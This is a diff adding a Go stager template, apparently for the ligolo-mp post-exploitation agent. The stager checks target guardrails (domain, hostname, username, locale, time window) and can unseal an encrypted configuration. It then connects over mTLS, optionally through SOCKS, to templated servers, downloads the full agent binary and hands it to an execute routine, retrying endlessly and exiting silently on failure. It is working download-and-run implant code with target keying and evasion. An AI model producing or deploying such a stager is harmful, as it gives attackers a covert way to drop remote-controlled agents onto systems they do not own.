@@ -0,0 +1,284 @@
+package main
+
+import (
+	"bufio"
+	"crypto/sha256"
+	"crypto/tls"
+	"crypto/x509"
+	"encoding/base64"
+	"encoding/binary"
+	"encoding/pem"
+	"errors"
+	"fmt"
+	"io"
+	"net"
+	"net/url"
+	"os"
+	"strconv"
+	"strings"
+	"time"
+
+	"github.com/ttpreport/ligolo-mp-agent/internal/guardrails"
+	"github.com/ttpreport/ligolo-mp-agent/internal/transport"
+	"golang.org/x/net/proxy"
+)
+
+// stageProtocol is negotiated over ALPN, it is how the server tells a stager apart from an agent
+const stageProtocol = "ligolo-stage/1"
+
+// maxStageSize bounds what a misbehaving server can make the stager allocate
+const maxStageSize = 256 << 20
+
+// The stager fetches the full agent from the server over the agent mTLS channel and runs it,
+// so the binary that has to be delivered stays small. HTTP proxies are left out as they pull in net/http,
+// SOCKS proxies are supported
+func main() {
+	timeout := 10 * time.Second
+
+	var stageID = `{{ .StageID }}`
+	var proxyServer = `{{ .ProxyServer }}`
+	var servers = strings.Split(`{{ .Servers }}`, "\n")
+	var AgentCert = []byte(`{{ .AgentCert }}`)
+	var AgentKey = []byte(`{{ .AgentKey }}`)
+	var CACert = []byte(`{{ .CACert }}`)
+	var serverPins = strings.Fields(`{{ range .Pinning.Pins }}{{ . }} {{ end }}`)
+	var serverCRL = []byte(`{{ .Pinning.CRL }}`)
+	var ignoreEnvProxy, _ = strconv.ParseBool(`{{ .IgnoreEnvProxy }}`)
+	var sealed = `{{ .Sealed }}`
+	var keySource = `{{ .KeySource }}`
+	var guards = guardrails.Guardrails{
+		Domain:    `{{ .Guardrails.Domain }}`,
+		Hostname:  `{{ .Guardrails.Hostname }}`,
+		Username:  `{{ .Guardrails.Username }}`,
+		Locale:    `{{ .Guardrails.Locale }}`,
+		NotBefore: `{{ .Guardrails.NotBefore }}`,
+		NotAfter:  `{{ .Guardrails.NotAfter }}`,
+	}
+
+	if !guards.Check(time.Now()) {
+		return
+	}
+
+	if sealed != "" {
+		config, err := unseal(sealed, keySource, keyArg(os.Args[1:]))
+		if err != nil {
+			return
+		}
+		proxyServer = config[0]
+		servers = strings.Split(config[1], "\n")
+		CACert = []byte(config[2])
+		AgentCert = []byte(config[3])
+		AgentKey = []byte(config[4])
+		serverPins = strings.Fields(config[5])
+	}
+
+	ca := x509.NewCertPool()
+	if ok := ca.AppendCertsFromPEM(CACert); !ok {
+		return
+	}
+
+	mtlsCert, err := tls.X509KeyPair(AgentCert, AgentKey)
+	if err != nil {
+		return
+	}
+
+	dialer := &net.Dialer{
+		Timeout: timeout,
+	}
+
+	var serverDialer transport.Dialer = dialer
+	if proxyServer != "" {
+		u, err := url.Parse(proxyServer)
+		if err != nil {
+			return
+		}
+		serverDialer, err = proxy.FromURL(u, dialer)
+		if err != nil {
+			return
+		}
+	} else if !ignoreEnvProxy {
+		serverDialer = proxy.FromEnvironmentUsing(dialer)
+	}
+
+	for {
+		for _, server := range servers {
+			serverTransport, address, err := transport.Parse(server)
+			if err != nil {
+				continue
+			}
+
+			host, _, err := net.SplitHostPort(address)
+			if err != nil {
+				continue
+			}
+
+			tlsConfig := &tls.Config{
+				RootCAs:            ca,
+				ServerName:         host,
+				Certificates:       []tls.Certificate{mtlsCert},
+				NextProtos:         []string{stageProtocol},
+				InsecureSkipVerify: true,
+				VerifyPeerCertificate: func(rawCerts [][]byte, _ [][]*x509.Certificate) error {
+					return verifyServer(rawCerts, ca, serverPins, CACert, serverCRL)
+				},
+			}
+
+			stage, err := fetch(serverTransport, serverDialer, address, tlsConfig, stageID)
+			if err != nil {
+				continue
+			}
+
+			if err := execute(stage, os.Args[1:]); err != nil {
+				continue
+			}
+
+			return
+		}
+
+		time.Sleep(5 * time.Second)
+	}
+}
+
+// verifyServer pins the server to our CA, and to its keys when they were pinned, same as the agent does
+func verifyServer(rawCerts [][]byte, ca *x509.CertPool, pins []string, caPEM []byte, crlPEM []byte) error {
+	cert, err := x509.ParseCertificate(rawCerts[0])
+	if err != nil {
+		return err
+	}
+
+	options := x509.VerifyOptions{
+		Roots: ca,
+	}
+
+	if err := verifyChain(cert, options); err != nil {
+		return err
+	}
+
+	if err := checkPins(cert, pins); err != nil {
+		return err
+	}
+
+	return checkRevoked(cert, caPEM, crlPEM)
+}
+
+// maxClockSkew is the agent's, the server certificate may be outside of its validity period by no more than that
+const maxClockSkew = 24 * time.Hour
+
+// verifyChain is the agent's, a chain only invalid because the local clock is off by less than maxClockSkew is checked
+// again as of the edge of the validity period the clock is past
+func verifyChain(cert *x509.Certificate, options x509.VerifyOptions) error {
+	_, err := cert.Verify(options)
+	var invalidErr x509.CertificateInvalidError
+	if err == nil || !errors.As(err, &invalidErr) || invalidErr.Reason != x509.Expired {
+		return err
+	}
+
+	now := time.Now()
+	edge := invalidErr.Cert.NotAfter
+	if now.Before(invalidErr.Cert.NotBefore) {
+		edge = invalidErr.Cert.NotBefore
+	}
+
+	if skew := now.Sub(edge).Abs(); skew > maxClockSkew {
+		return fmt.Errorf("%w, local clock is %s off", err, skew.Round(time.Second))
+	}
+
+	options.CurrentTime = edge
+	_, err = cert.Verify(options)
+	return err
+}
+
+// checkPins is the agent's, the server certificate has to carry one of the pinned keys if there are any
+func checkPins(cert *x509.Certificate, pins []string) error {
+	if len(pins) == 0 {
+		return nil
+	}
+
+	hash := sha256.Sum256(cert.RawSubjectPublicKeyInfo)
+	pin := base64.StdEncoding.EncodeToString(hash[:])
+	for _, pinned := range pins {
+		if pin == pinned {
+			return nil
+		}
+	}
+
+	return errors.New("server key is not pinned")
+}
+
+// checkRevoked is the agent's, the server certificate can't be on the CRL embedded at build time if there is one
+func checkRevoked(cert *x509.Certificate, caPEM []byte, crlPEM []byte) error {
+	block, _ := pem.Decode(crlPEM)
+	if block == nil {
+		return nil
+	}
+
+	crl, err := x509.ParseRevocationList(block.Bytes)
+	if err != nil {
+		return err
+	}
+
+	caBlock, _ := pem.Decode(caPEM)
+	if caBlock == nil {
+		return errors.New("invalid CA certificate")
+	}
+	ca, err := x509.ParseCertificate(caBlock.Bytes)
+	if err != nil {
+		return err
+	}
+
+	if err := ca.CheckSignature(crl.SignatureAlgorithm, crl.RawTBSRevocationList, crl.Signature); err != nil {
+		return err
+	}
+
+	for _, revoked := range crl.RevokedCertificates {
+		if revoked.SerialNumber.Cmp(cert.SerialNumber) == 0 {
+			return errors.New("server certificate is revoked")
+		}
+	}
+
+	return nil
+}
+
+// fetch asks for the stage by build ID, the server answers with its size followed by the agent binary
+func fetch(serverTransport transport.Transport, dialer transport.Dialer, address string, config *tls.Config, stageID string) ([]byte, error) {
+	conn, err := serverTransport.Dial(dialer, address, config)
+	if err != nil {
+		return nil, err
+	}
+	defer conn.Close()
+
+	tlsConn, ok := conn.(*tls.Conn)
+	if !ok {
+		return nil, errors.New("transport does not support staging")
+	}
+
+	if err := tlsConn.Handshake(); err != nil {
+		return nil, err
+	}
+
+	if tlsConn.ConnectionState().NegotiatedProtocol != stageProtocol {
+		return nil, errors.New("server does not host stages")
+	}
+
+	if _, err := fmt.Fprintf(conn, "%s\n", stageID); err != nil {
+		return nil, err
+	}
+
+	reader := bufio.NewReader(conn)
+
+	var size uint64
+	if err := binary.Read(reader, binary.BigEndian, &size); err != nil {
+		return nil, err
+	}
+
+	if size == 0 || size > maxStageSize {
+		return nil, fmt.Errorf("stage unavailable")
+	}
+
+	stage := make([]byte, size)
+	if _, err := io.ReadFull(reader, stage); err != nil {
+		return nil, err
+	}
+
+	return stage, nil
+}